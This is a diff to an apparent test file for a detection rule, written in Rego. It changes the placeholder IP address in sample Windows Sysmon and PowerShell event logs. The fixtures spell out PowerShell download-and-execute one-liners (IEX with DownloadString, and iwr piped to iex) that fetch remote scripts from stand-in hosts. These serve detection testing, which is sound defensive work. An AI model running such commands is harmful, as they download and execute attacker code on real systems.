@@ -23,13 +23,13 @@ test_fires_iex_downloadstring if {
 			"channel": "Microsoft-Windows-Sysmon/Operational",
 			"event_data": {
 				"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-				"CommandLine": "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1')\""
+				"CommandLine": "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.66/a.ps1')\""
 			}
 		},
 		"process": {
 			"name": "powershell.exe",
 			"executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-			"command_line": "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1')\""
+			"command_line": "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.66/a.ps1')\""
 		}
 	}
 }
@@ -53,7 +53,7 @@ test_fires_script_block_with_iwr_iex if {
 			"event_id": 4104,
 			"channel": "Microsoft-Windows-PowerShell/Operational",
 			"event_data": {
-				"ScriptBlockText": "iwr http://203.0.113.66/s.ps1 -UseBasicParsing | iex"
+				"ScriptBlockText": "iwr http://192.0.2.66/s.ps1 -UseBasicParsing | iex"
 			}
 		}
 	}
